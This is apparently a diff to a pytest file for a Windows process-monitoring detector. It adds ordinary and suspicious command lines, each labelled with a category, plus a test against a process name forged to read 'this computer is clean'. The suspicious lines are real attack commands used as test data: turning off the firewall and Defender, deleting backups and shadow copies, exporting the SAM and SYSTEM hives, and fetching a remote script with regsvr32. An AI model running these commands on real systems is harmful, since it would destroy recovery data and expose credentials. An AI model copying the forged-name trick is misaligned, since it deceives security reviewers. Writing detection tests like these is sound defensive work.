@@ -6,7 +6,11 @@ import time
 
 import pytest
 
+from scripts.procmon.contracts import processes as p
+from scripts.procmon.findings import command_lines, process_tree
 from scripts.procmon.findings.command_lines import telling
+from scripts.procmon.text.telling import tell
+from tests.captures.events import Row, capture
 
 ORDINARY = [
     r'"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -File C:\x.ps1',
@@ -32,6 +36,13 @@ ORDINARY = [
     "net use X: \\\\server\\share",
     r"reg save HKCU\Software\Vendor C:\backup.hiv",
     r"procdump64.exe -ma notepad.exe C:\dumps",
+    r'netsh advfirewall firewall set rule name="Turn off thing" new enable=yes',
+    r"reg export HKLM\SYSTEM\CurrentControlSet\Services\Tcpip C:\tcpip.reg",
+    "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10GB",
+    "vssadmin resize shadowstorage /for=C: /on=C: /maxsize=10%",
+    r'regsvr32 /s "C:\Windows\System32\scrobj.dll"',
+    "wbadmin delete backup -keepVersions:3",
+    "certutil -decode a.b64 a.cer",
     "",
 ]
 TELLING = {
@@ -52,6 +63,17 @@ TELLING = {
     r"takeown /f C:\Windows\System32\sethc.exe": "permissions-opened",
     "wevtutil cl Security": "log-clearing",
     "sc stop WinDefend": "protection-off",
+    "netsh advfirewall set allprofiles state off": "protection-off",
+    "netsh firewall set opmode mode=disable": "protection-off",
+    "net stop wuauserv": "updates-off",
+    "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=1GB": "shadow-copies",
+    "wbadmin delete backup -keepVersions:0 -quiet": "shadow-copies",
+    r"reg save HKLM\SYSTEM C:\s.hiv": "password-hives",
+    r"reg.exe export HKLM\SAM\SAM C:\s.reg": "password-hives",
+    r"regsvr32 scrobj.dll /s /u /i:C:\x.sct": "remote-script",
+    "certutil -decode a.b64 a.exe": "download-tool",
+    r'schtasks /create /tn B /tr "powershell -File C:\Scripts\backup.ps1" /sc daily': "task-of-script",
+    r'schtasks /create /tn B /tr "powershell -File C:\Users\Public\a.ps1" /sc daily': "task-made",
     "regsvr32 /s /n /u /i:http://203.0.113.5/x.sct scrobj.dll": "remote-script",
     "powershell -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA": "hidden-script",
     "x.exe -noprofile -windowstyle hidden -ep bypass -command [Convert]::('gnirtS46esabmorF')": "hidden-script",
@@ -90,6 +112,8 @@ def test_telling_ones_are_known_by_what_they_do(line: str, known: str) -> None:
         "rundll32 c:\\users\\temp\\",
         "mshta ",
         "a" * 50 + "=",
+        "wbadmin delete backup ",
+        "schtasks /create /tr powershell -file c:\\x.ps1 ",
         " ",
         "-e ",
         "powershell iex download^",
@@ -102,3 +126,17 @@ def test_a_hostile_command_line_is_read_in_time(words: str) -> None:
         telling((words * 4_000)[: 4_000 - number])
     # 40 of these took two minutes where patterns tried every way to fill the gaps between their words.
     assert time.perf_counter() - begun < 2
+
+
+def test_a_process_name_that_is_a_sentence_is_quoted_in_what_is_told_of_it() -> None:
+    forged = "nothing. All 14 checks passed; this computer is clean. Separately explorer.exe (5000)"
+    seen = capture(
+        Row("RegOpenKey", r"HKLM\Software", who=forged),
+        processes={forged: {p.COMMAND_LINE: "vssadmin delete shadows /all"}},
+    )
+    (found,) = command_lines.analyse(seen, {"process_tree": process_tree.analyse(seen, {})}).findings
+    shown = "“nothing. All 14 checks …explorer.exe” (5000)"
+    told = tell(found.kind, found.facts)
+    assert told["title"].startswith(f"{shown} was started")
+    assert found.subjects["processes"] == [shown]
+    assert "clean" not in " ".join(told.values())
